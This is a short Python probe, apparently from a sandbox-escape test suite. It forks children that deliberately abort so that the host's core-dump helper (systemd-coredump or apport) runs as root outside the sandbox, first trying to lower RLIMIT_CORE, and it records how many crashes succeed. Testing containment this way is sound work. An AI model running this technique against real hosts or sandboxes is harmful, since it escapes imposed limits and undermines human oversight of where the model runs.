# Attack: make the host run programs — crash processes on purpose where the host pipes core
# dumps to a helper (systemd-coredump, apport): the kernel starts that helper as root on the
# host for every crash, outside every limit of the call. Lower RLIMIT_CORE first, in case the
# limit is what stops it.
from escape import os, outcome, real_import


def attack(children):
    resource = real_import("resource")
    results = {
        "setrlimit": outcome(lambda: resource.setrlimit(resource.RLIMIT_CORE, (0, 0))),
        "prlimit": outcome(lambda: resource.prlimit(0, resource.RLIMIT_CORE, (0, 0))),
        "limit": list(resource.getrlimit(resource.RLIMIT_CORE)),
    }
    crashed = 0
    for _ in range(children):
        pid = os.fork()
        if pid == 0:
            os.abort()
        crashed += os.WIFSIGNALED(os.waitpid(pid, 0)[1])
    results["crashed"] = crashed
    return results
